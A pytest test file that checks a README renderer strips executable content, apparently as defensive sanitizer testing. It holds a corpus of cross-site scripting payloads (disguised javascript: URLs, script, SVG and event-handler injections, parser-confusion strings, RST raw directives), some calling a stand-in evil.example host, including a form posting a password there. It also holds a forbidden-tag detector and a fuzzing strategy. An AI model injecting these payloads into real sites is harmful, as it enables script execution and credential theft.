"""Nothing executable survives README rendering: a corpus of known attacks, and a property."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portfolio.readme import render_readme
from portfolio.snapshot import Readme, Repo

REPO = Repo(name="kit", owner="octo", default_branch="main")

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
    "meta", "link", "form", "button", "textarea", "select", "option", "svg", "math", "template",
    "noscript", "video", "audio", "track", "canvas", "portal", "xmp", "plaintext", "dialog",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "srcset", "cite", "action", "formaction", "poster", "data", "background",
    "longdesc", "xlink:href", "ping", "manifest", "codebase", "usemap",
}  # fmt: skip
INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\u2060\ufeff]")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def problems(html: str) -> list[str]:
    """Everything in ``html`` that could run code, load a page or restyle the site."""
    parser = _Tags()
    parser.feed(html)
    parser.close()
    found = []
    for tag, attrs in parser.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append(f"{tag}[{name}]")
            if name == "style" and not (
                tag in ("td", "th") and re.fullmatch(r"text-align:\s*\w+;?", value)
            ):
                found.append(f"{tag}[style={value!r}]")
            if name in ("http-equiv", "target", "formaction", "action", "xmlns"):
                found.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES:
                urls = (
                    [c.split()[0] for c in value.split(", ") if c.split()]
                    if (name == "srcset")
                    else [value]
                )
                for url in urls:
                    cleaned = INVISIBLE.sub("", url).lower()
                    if not (
                        cleaned.startswith(("https://", "http://", "#"))
                        or (cleaned.startswith("mailto:") and name == "href")
                    ):
                        found.append(f"{tag}[{name}={url!r}]")
    return found


def render(text: str, fmt: str = "markdown") -> str:
    return render_readme(
        Readme("README.md" if fmt == "markdown" else "README.rst", fmt, text), REPO
    ).html


CORPUS = [
    # javascript: and data: URLs in links and images, with every disguise
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a]: javascript:alert(1)\n\n[x][a]",
    "<javascript:alert(1)>",
    "![i](javascript:alert(1))",
    "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    # srcset and picture
    '<img srcset="javascript:alert(1) 1x, data:image/png;base64,AAAA 2x" src="a.png" alt="">',
    '<img srcset="x.png 1x,javascript:alert(1) 2x" alt="">',
    '<picture><source srcset="javascript:alert(1)"><img src="a.png" alt=""></picture>',
    '<picture><source srcset="data:image/svg+xml,<svg onload=alert(1)>"><img alt=""></picture>',
    # tags that run or load things
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" formaction="javascript:alert(1)" src="x">',
    '<video poster="javascript:alert(1)"><source src="x"></video>',
    # event handlers and SVG
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<details open ontoggle="alert(1)">x</details>',
    # protocol-relative URLs and styling
    '<a href="//evil.example">x</a><img src="//evil.example/i.png" alt="">',
    "[x](//evil.example)",
    '<p style="position:fixed;top:0">overlay</p>',
    '<a href="https://ok.example" target="_blank">x</a>',
    # parser confusion
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<img/src=x/onerror=alert(1)>",
    '<a href="javascript:alert(1)"\n>x</a>',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
]


@pytest.mark.parametrize("text", CORPUS)
def test_markdown_corpus_leaves_nothing_executable(text: str) -> None:
    assert problems(render(text)) == []


RST_CORPUS = [
    "`x <javascript:alert(1)>`_",
    "`x <data:text/html,<script>alert(1)</script>>`_",
    ".. image:: javascript:alert(1)",
    ".. image:: x.png\n   :target: javascript:alert(1)",
    ".. raw:: html\n\n   <script>alert(1)</script>",
    ".. raw:: html\n   :url: https://evil.example/x.html",
    ".. class:: onload\n\nText.",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<img src=x onerror=alert(1)>`",
    ".. |x| raw:: html\n\n   <script>alert(1)</script>\n\n|x|",
]


@pytest.mark.parametrize("text", RST_CORPUS)
def test_rst_corpus_leaves_nothing_executable(text: str) -> None:
    html = render(text, "rst")
    assert problems(html) == []
    assert "<script" not in html.lower()


def test_the_checker_itself_catches_what_it_should() -> None:
    assert problems('<a href="javascript:alert(1)">x</a><img src=x onerror=y>') == [
        "a[href='javascript:alert(1)']",
        "img[src='x']",
        "img[onerror]",
    ]
    assert problems("<svg><script></script></svg>") == ["<svg>", "<script>"]


# Pieces attackers and ordinary READMEs are made of; hypothesis shuffles them.
_PIECES = st.sampled_from([
    "<script>", "</script>", "<img src=", "<a href=", "<svg", "<iframe", "<style>", "<base ",
    " onerror=", " onload=", "onclick=", "javascript:", "JaVaScRiPt:", "data:", "vbscript:",
    "&#106;", "&#x6A;", "&colon;", "&#58;", "\t", "\n", "\n\n", " ", '"', "'", "=", "<", ">",
    "/", "//", "(", ")", "[", "]", "!", "`", "```", "~~", "*", "#", "> [!NOTE]", "srcset=",
    " 2x,", "alert(1)", "x.png", "https://a.example/", "<picture><source ", "formaction=",
    "<meta http-equiv=", "<form>", "-->", "<!--", "\\", "..", "|", ":", "[^1]", "[^1]: ",
    ".. raw:: html\n\n   ", ".. include:: ", "`x <", ">`_", "<div>", "</div>",
    '<div align="center">', "<details>", "</details>", "<summary>", "<p>", "</p>", "- ",
    "  - ", "1. ",
])  # fmt: skip
_TEXT = st.one_of(
    st.lists(_PIECES, max_size=40).map("".join),
    st.lists(st.one_of(_PIECES, st.text(max_size=5)), max_size=30).map("".join),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=_TEXT, fmt=st.sampled_from(["markdown", "rst"]))
def test_property_no_script_no_handlers_no_dangerous_urls(text: str, fmt: str) -> None:
    html = render(text, fmt)
    assert "<script" not in html.lower()
    assert problems(html) == []


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 3000 + "x",
        "> " * 1500 + "x",
        "".join("  " * i + "- x\n" for i in range(200)),
        "[" * 300 + "a" + "]" * 300,
    ],
    ids=["divs", "quotes", "lists", "brackets"],
)
def test_hostile_nesting_renders_safely_without_crashing(text: str) -> None:
    html = render(text)
    assert problems(html) == []
